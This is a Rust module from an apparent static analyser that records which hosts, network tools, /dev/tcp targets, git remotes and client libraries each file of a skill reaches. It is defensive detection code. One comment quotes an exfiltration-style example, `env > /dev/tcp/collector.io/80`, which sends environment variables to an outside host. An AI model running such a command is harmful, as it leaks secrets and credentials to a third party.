//! What each file reaches (hosts, network tools, generic libraries, service clients), and the
//! skill's findings gathered over its files, one per host, tool and library.

use std::collections::HashSet;

use super::context::Context;
use super::hosts::Target;
use super::libraries::{clients, libraries};
use super::services::{self, Service};
use super::text_for_people::{counts_in_context, is_message};
use super::tools::{dev_tcp_targets, reach};
use super::urls::urls;
use super::{Client, messages, remotes};
use crate::analysis::code_lines::{CodeLine, Lang};
use crate::analysis::evidence::Evidence;
use crate::analysis::line_commands;
use crate::analysis::line_commands::for_each_command;
use crate::analysis::paths::base_name;

/// What one file reaches, before the file's own calls decide whether its libraries count.
#[derive(Debug, Default)]
pub(super) struct FileFound {
    pub(super) hosts: Vec<(String, u32)>,
    /// Network commands, each reaching something external or unnamed.
    pub(super) tools: Vec<(String, u32)>,
    /// Generic client libraries: where they go is what each of their calls names.
    pub(super) libraries: Vec<(String, u32)>,
    pub(super) clients: Vec<(&'static Service, String, u32)>,
}

impl FileFound {
    pub(super) fn read(
        &mut self,
        line: &CodeLine<'_>,
        ctx: Context,
        local_module: &dyn Fn(&str) -> bool,
    ) {
        if !is_message(line) {
            let mut shown: Option<Vec<std::ops::Range<usize>>> = None;
            for url in urls(line.text, ctx) {
                if !counts_in_context(&line.text[..url.start]) {
                    continue;
                }
                // `… || { echo "Install it: https://brew.sh" >&2; exit 1; }`: a message's
                // words, whatever else runs on the line.
                if line.lang == Lang::Shell
                    && shown
                        .get_or_insert_with(|| messages::message_spans(line.text))
                        .iter()
                        .any(|span| span.contains(&url.start))
                {
                    continue;
                }
                if let Target::External(host) = url.target {
                    self.hosts.push((host, line.number));
                }
            }
        }
        // `env > /dev/tcp/collector.io/80`: bash opens the connection itself.
        for target in dev_tcp_targets(line.text, ctx) {
            match target {
                Target::External(host) => {
                    self.hosts.push((host, line.number));
                    self.tools.push(("/dev/tcp".to_owned(), line.number));
                }
                Target::Unknown => self.tools.push(("/dev/tcp".to_owned(), line.number)),
                Target::NotExternal => {}
            }
        }
        // `command -v gh`: the program looked up, not run.
        let mut looked_up: Option<String> = None;
        for_each_command(line, |command| {
            if looked_up.take().is_some_and(|name| name == command.name) {
                return;
            }
            if command.name == "command"
                && command
                    .args
                    .first()
                    .is_some_and(|a| matches!(*a, "-v" | "-V"))
            {
                looked_up = command
                    .args
                    .iter()
                    .find(|a| !a.starts_with('-'))
                    .map(|a| base_name(line_commands::unquote(a)).to_owned());
            }
            let spawned = (command.name == "git" && line.lang != Lang::Shell)
                .then(|| remotes::spawned_git_args(line.text))
                .flatten();
            let reached = match &spawned {
                // The words of a spawned list, its variables kept as `$`.
                Some(args) => remotes::git(
                    &line_commands::Command {
                        name: command.name,
                        args: args.iter().map(String::as_str).collect(),
                        piped: false,
                    },
                    ctx,
                )
                .map(|targets| ("git", targets)),
                None => reach(command, ctx),
            };
            let Some((tool, targets)) = reached else {
                return;
            };
            if let Some(service) = services::of_program(tool) {
                self.clients.push((service, tool.to_owned(), line.number));
            }
            let mut local = false;
            let mut other = false;
            for target in targets {
                match target {
                    Target::External(host) => {
                        other = true;
                        self.hosts.push((host, line.number));
                    }
                    Target::NotExternal => local = true,
                    Target::Unknown => other = true,
                }
            }
            // A command whose every address is loopback or reserved reaches nothing external.
            if !local || other {
                self.tools.push((tool.to_owned(), line.number));
            }
        });
        for library in libraries(line) {
            self.libraries.push((library.to_owned(), line.number));
        }
        for (service, library) in clients(line, local_module) {
            self.clients.push((service, library, line.number));
        }
    }
}

/// Every file's findings, one per host, tool and library.
#[derive(Debug, Default)]
pub(super) struct Found {
    pub(super) endpoints: Vec<Evidence>,
    pub(super) hosts_seen: HashSet<String>,
    pub(super) tools: Vec<Evidence>,
    pub(super) tools_seen: HashSet<String>,
    pub(super) clients: Vec<Client>,
    pub(super) clients_seen: HashSet<String>,
}

impl Found {
    /// Add one file's findings; `local_only` are its libraries whose every call names a local
    /// address (see [`locality`]).
    pub(super) fn add(&mut self, path: &str, file: FileFound, local_only: &HashSet<&'static str>) {
        for (host, line) in file.hosts {
            if self.hosts_seen.insert(host.clone()) {
                self.endpoints.push(Evidence::new(host, path, line));
            }
        }
        let libraries = file
            .libraries
            .into_iter()
            .filter(|(library, _)| !local_only.contains(library.as_str()));
        for (tool, line) in file.tools.into_iter().chain(libraries) {
            if self.tools_seen.insert(tool.clone()) {
                self.tools.push(Evidence::new(tool, path, line));
            }
        }
        for (service, library, line) in file.clients {
            if self.clients_seen.insert(library.clone()) {
                self.clients.push(Client {
                    service: service.name.to_owned(),
                    library: Evidence::new(library, path, line),
                });
            }
        }
    }
}
